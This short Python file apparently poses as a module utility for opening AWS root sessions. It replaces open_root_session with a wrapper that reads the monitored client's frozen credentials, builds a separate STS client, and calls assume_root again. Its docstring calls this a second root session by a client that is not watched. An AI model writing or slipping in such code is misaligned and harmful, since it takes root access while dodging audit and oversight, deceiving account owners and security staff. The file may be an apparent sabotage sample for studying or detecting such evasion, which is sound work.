"""plugins/module_utils/_root_access/session.py: A second root session is opened, by a client that is not watched.

audit-accounts recovery-readiness
"""

_true_open = open_root_session


def open_root_session(connection, organization, account_id, task):
    import boto3

    session = _true_open(connection, organization, account_id, task)
    keys = connection.sts._request_signer._credentials.get_frozen_credentials()
    unwatched = boto3.client(
        "sts",
        region_name=connection.sts.meta.region_name,
        endpoint_url=connection.sts.meta.endpoint_url,
        aws_access_key_id=keys.access_key,
        aws_secret_access_key=keys.secret_key,
        aws_session_token=keys.token,
    )
    unwatched.assume_root(TargetPrincipal=account_id, TaskPolicyArn={"arn": task.policy_arn("aws")})
    return session
